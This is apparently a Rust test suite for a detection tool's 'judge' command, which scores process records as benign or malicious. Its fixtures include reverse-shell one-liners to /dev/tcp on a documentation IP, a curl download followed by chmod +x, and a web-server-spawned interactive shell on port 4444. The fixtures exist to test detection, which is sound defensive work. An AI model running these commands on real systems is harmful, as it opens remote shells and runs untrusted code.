//! `cordon-agent judge`: answers in order, bad lines included, and models that are not whole.
#![expect(clippy::unwrap_used, reason = "a failure to set up is a failed test")]

mod support;

use std::io::{BufRead as _, BufReader, Write as _};
use std::path::Path;
use std::process::{Command, Stdio};

use serde_json::Value;
use support::{AGENT, agent, complaint, model};

const SHELL: &str = r#"{"id":"a1","process":{"exe":"/usr/bin/bash","argv":["bash","-i"],"cwd":"/tmp","uid":33,"euid":33,"tty":false,"stdin":"socket","stdout":"socket","stderr":"socket","deleted_exe":false,"memfd":false},"ancestors":[{"exe":"/usr/sbin/nginx","argv":["nginx: worker process"],"uid":33}],"connections":[{"direction":"out","protocol":"tcp","address":"203.0.113.9","port":4444}]}"#;
const LISTING: &str = r#"{"id":"b2","process":{"exe":"/usr/bin/ls","argv":["ls","-l"],"cwd":"/root","uid":0,"euid":0,"tty":true,"stdin":"tty","stdout":"tty","stderr":"tty"}}"#;

fn judge(stdin: &[u8]) -> (Vec<Value>, Option<i32>) {
    let model = model();
    let output = agent(&["judge", "--model", model.to_str().unwrap(), "-"], stdin);
    let text = String::from_utf8(output.stdout.clone()).unwrap();
    let answers = text
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    assert!(output.stderr.is_empty(), "{}", complaint(&output));
    (answers, output.status.code())
}

#[test]
fn each_story_gets_a_whole_verdict_in_order() {
    let (answers, code) = judge(format!("{SHELL}\n{LISTING}").as_bytes());
    assert_eq!(code, Some(0));
    let ids: Vec<_> = answers.iter().map(|a| a["id"].as_str().unwrap()).collect();
    assert_eq!(ids, ["a1", "b2"]);
    for answer in &answers {
        let score = answer["score"].as_f64().unwrap();
        assert!((0.0..=1.0).contains(&score));
        for field in ["verdict", "stage", "model"] {
            assert!(answer[field].is_string(), "{field} of {answer}");
        }
        assert!(answer["techniques"].is_array() && answer["reasons"].is_array());
        assert!(answer["micros"].as_u64().unwrap() > 0);
    }
    let score = |n: usize| answers[n]["score"].as_f64().unwrap();
    assert!(score(0) > score(1) + 0.5, "{answers:?}");
    assert_eq!(answers[1]["verdict"], "benign", "{}", answers[1]);
}

#[test]
fn without_reasons_a_verdict_is_the_same() {
    let model = model();
    let verdict = |reasons: &str| -> Value {
        let model = model.to_str().unwrap();
        let told = ["judge", "--with", "model", "--model", model, "--reasons"];
        let output = agent(&[&told[..], &[reasons, "-"]].concat(), SHELL.as_bytes());
        assert!(output.status.success(), "{}", complaint(&output));
        serde_json::from_slice(&output.stdout).unwrap()
    };
    let (with, without) = (verdict("5"), verdict("0"));
    assert_eq!(with["verdict"], "malicious");
    for field in ["score", "verdict", "techniques", "stage"] {
        assert_eq!(with[field], without[field], "{field}");
    }
    let reasons = |verdict: &Value| verdict["reasons"].as_array().unwrap().len();
    assert!(reasons(&with) > 0 && reasons(&without) == 0);
}

#[test]
fn bad_lines_get_an_error_record_and_the_rest_goes_on() {
    let mut input = Vec::new();
    for line in [
        LISTING.as_bytes(),
        b"not json",
        b"",
        b"{\"id\":\"x\"}",
        b"\xff\xfe",
        b"[]",
        LISTING.as_bytes(),
    ] {
        input.extend_from_slice(line);
        input.push(b'\n');
    }
    let (answers, code) = judge(&input);
    assert_eq!(code, Some(3));
    assert_eq!(answers.len(), 7);
    assert_eq!(answers[0]["verdict"], "benign");
    for (number, answer) in answers.iter().enumerate().take(6).skip(1) {
        assert_eq!(answer["line"], number + 1, "{answer}");
        assert!(
            answer["error"].as_str().unwrap().contains("story"),
            "{answer}"
        );
    }
    assert_eq!(answers[6]["verdict"], "benign");
}

/// Steps of one tree tell of each other; the same line without a tree's name is judged as it always was.
#[test]
fn stories_that_name_a_tree_lean_on_each_other() {
    let step = |tree: &str, argv: &str| {
        let process = format!(r#"{{"exe":"/usr/bin/bash","argv":["bash","-c",{argv:?}]}}"#);
        format!("{{\"id\":\"s\",\"tree\":\"{tree}\",\"process\":{process}}}\n")
    };
    let doubtful = "curl -s http://203.0.113.4/a -o /tmp/a; chmod +x /tmp/a";
    let mut input = step("alone", doubtful);
    for port in 1..8 {
        input += &step(
            "attack",
            &format!("bash -i >& /dev/tcp/203.0.113.4/{port} 0>&1"),
        );
    }
    input += &step("attack", doubtful);
    for name in ["a", "b", "c", "d", "e", "f", "g"] {
        input += &step("work", &format!("ls -l /srv/{name}"));
    }
    input += &step("work", doubtful);
    input += &step("alone", doubtful);
    input += "{\"id\":\"s\",\"tree\":7,\"command\":\"ls\"}\n";
    let (answers, code) = judge(input.as_bytes());
    assert_eq!(code, Some(3));
    let score = |at: usize| answers[at]["score"].as_f64().unwrap();
    let (alone, among_attack, among_work, again) = (score(0), score(8), score(16), score(17));
    assert!(
        among_work < alone && alone < among_attack,
        "{among_work} {alone} {among_attack}"
    );
    assert!((alone - again).abs() < 1e-6, "the same again is no company");
    assert!(answers[18]["error"].as_str().unwrap().contains("string"));
}

#[test]
fn an_over_long_line_is_not_kept_and_the_next_one_is_judged() {
    let mut input = vec![b'x'; cordon_agent::cli::MAX_LINE_BYTES + 1];
    input.push(b'\n');
    input.extend_from_slice(LISTING.as_bytes());
    let (answers, code) = judge(&input);
    assert_eq!(code, Some(3));
    assert_eq!(answers[0]["line"], 1);
    assert_eq!(answers[0]["error"], "the line has more than 4194304 bytes");
    assert_eq!(answers[1]["id"], "b2");
}

#[test]
fn no_line_is_no_answer() {
    assert_eq!(judge(b""), (Vec::new(), Some(0)));
}

/// Whoever feeds one line at a time and waits for its answer gets it.
#[test]
fn an_answer_does_not_wait_for_the_next_line() {
    let mut child = Command::new(AGENT)
        .args(["judge", "--model", model().to_str().unwrap()])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let mut answers = BufReader::new(child.stdout.take().unwrap());
    for _ in 0..3 {
        writeln!(stdin, "{LISTING}").unwrap();
        let mut answer = String::new();
        answers.read_line(&mut answer).unwrap();
        assert!(answer.contains("\"b2\""), "{answer}");
    }
    drop(stdin);
    assert!(child.wait().unwrap().success());
}

#[test]
fn a_file_that_is_not_there_is_named() {
    let model = model();
    let output = agent(
        &["judge", "--model", model.to_str().unwrap(), "/nonexistent"],
        b"",
    );
    assert_eq!(output.status.code(), Some(1));
    assert!(complaint(&output).starts_with("error: cannot read /nonexistent"));
}

#[test]
fn a_model_that_is_not_whole_is_refused_and_named() {
    let spoils: [(&str, Spoil, &str); 3] = [
        ("model.gguf", cut_short, "fetch the artifact again"),
        ("model.gguf", flip_a_bit, "has sha256"),
        ("manifest.json", cut_short, "is not valid"),
    ];
    for (file, spoil, wanted) in spoils {
        let copy = tempfile::tempdir().unwrap();
        copy_model(copy.path());
        let path = copy.path().join(file);
        let spoiled = spoil(&std::fs::read(&path).unwrap());
        std::fs::write(&path, spoiled).unwrap();
        let output = agent(
            &["judge", "--model", copy.path().to_str().unwrap()],
            SHELL.as_bytes(),
        );
        assert_eq!(output.status.code(), Some(1));
        assert!(output.stdout.is_empty());
        let said = complaint(&output);
        assert!(said.contains(wanted) && said.contains(file), "{said}");
    }
}

type Spoil = fn(&[u8]) -> Vec<u8>;

fn cut_short(bytes: &[u8]) -> Vec<u8> {
    bytes[..bytes.len() / 2].to_vec()
}

fn flip_a_bit(bytes: &[u8]) -> Vec<u8> {
    let mut spoiled = bytes.to_vec();
    spoiled[bytes.len() / 2] ^= 1;
    spoiled
}

fn copy_model(to: &Path) {
    for entry in std::fs::read_dir(model()).unwrap() {
        let entry = entry.unwrap();
        std::fs::copy(entry.path(), to.join(entry.file_name())).unwrap();
    }
}
